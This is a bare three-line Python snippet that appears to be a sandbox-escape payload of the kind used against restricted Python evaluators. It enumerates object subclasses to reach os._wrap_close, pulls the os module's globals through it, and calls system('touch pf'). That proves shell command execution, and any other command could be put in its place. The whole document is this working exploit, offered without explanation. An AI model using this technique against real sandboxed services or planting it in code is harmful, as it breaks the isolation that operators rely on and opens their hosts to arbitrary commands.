def subs(c): return type.__subclasses__(c)
x = [c for c in subs(type(1).mro()[1]) if "wrap_close" in str(c)]
x[0].close.__globals__["system"]("touch pf")
